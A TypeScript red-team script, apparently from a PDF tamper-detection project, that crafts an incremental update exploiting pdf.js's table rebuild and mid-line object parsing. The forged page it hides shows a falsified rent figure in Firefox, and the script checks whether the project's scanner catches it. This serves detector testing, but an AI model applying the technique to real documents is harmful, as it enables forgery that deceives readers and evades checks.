// a23: two gaps that meet in pdf.js (Firefox).
//  1. A trigger: pdf.js's readXRefTable throws "Invalid XRef table: unexpected first object" when object 0 is listed in
//     use; on the newest section that is an XRefParseException and pdf.js rebuilds its table (indexObjects). One table
//     update lists object 0 at a new `0 0 obj null endobj` (mode zero) or not (mode honest).
//  2. A header the unlisted scan does not take: indexObjects, after an `N G obj`, looks for the next
//     `\d+\s+\d+\s+obj` ANYWHERE before `endobj` (gEndobjRegExp) and restarts there, taking it as a definition. So
//     `x 4 0 obj << forged page 1 >> endobj` mid-line inside a listed stream's data (object A, referenced by nothing) is
//     page 1 for pdf.js's rebuilt table (the last definition of a number at the same generation wins). The scan
//     (unlisted.ts) takes line starts (and after `<`, `>`) only: "no scanner takes that" is not so for pdf.js.
// modes: honest (no object 0: no rebuild), zero (the attack), plain (the header at a line start: the scan's control).
//   npx tsx scripts/attack-s18/pdfjs-midline.ts <honest|zero|plain>   REAL=0 for samples/valid
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "zero";
if (!["honest", "zero", "plain"].includes(mode)) throw new Error("usage: <honest|zero|plain>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const alloc = new NumberAllocator(doc);
const [A, B] = [alloc.take(), alloc.take()];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number, gen: number) => `${String(off).padStart(10, "0")} ${String(gen).padStart(5, "0")} n \n`;
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
let off0 = 0;
if (mode !== "honest") {
  off0 = at;
  push(latin("0 0 obj\nnull\nendobj\n"));
}
const inner = `${mode === "plain" ? "" : "x "}${P} 0 obj ${forgedPage} endobj\n`;
const offA = at;
push(latin(`${A} 0 obj\n<< /Length ${inner.length} >>\nstream\n${inner}endstream\nendobj\n`));
const offB = at;
push(latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`));
const x = at;
const zero = mode === "honest" ? "" : `0 1\n${entry(off0, 0)}`;
push(
  latin(
    `xref\n${zero}${A} 2\n${entry(offA, 0)}${entry(offB, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${x}\n%%EOF\n`,
  ),
);
const file = save(work(`s18-pdfjs-midline-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`pdfjs-midline ${mode}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 120))}`);
